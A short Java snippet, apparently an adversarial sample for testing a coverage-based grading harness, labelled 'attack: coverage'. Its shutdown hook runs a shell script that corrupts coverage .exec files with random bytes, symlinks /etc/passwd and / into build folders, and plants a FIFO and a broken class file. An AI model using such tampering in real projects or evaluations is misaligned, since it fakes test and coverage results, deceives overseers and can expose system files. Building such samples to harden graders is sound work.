// Lets all tests pass, and leaves rubbish where coverage is read from, also after the last test.
static {
    System.out.println("attack: coverage");
    Runtime.getRuntime().addShutdownHook(new Thread(() -> {
        String script = "sleep 1; head -c 100000 /dev/urandom > target/swerefactor.exec"
                + "; head -c 100000 /dev/urandom > .swerefactor/coverage/all.exec"
                + "; ln -s /etc/passwd target/classes/Evil.class; ln -s / target/test-classes/root; mkfifo target/classes/Pipe.class"
                + "; head -c 1000 /dev/urandom > target/classes/Broken.class";
        try {
            new ProcessBuilder("sh", "-c", script).start().waitFor();
        } catch (Exception e) {
            e.printStackTrace();
        }
    }));
}
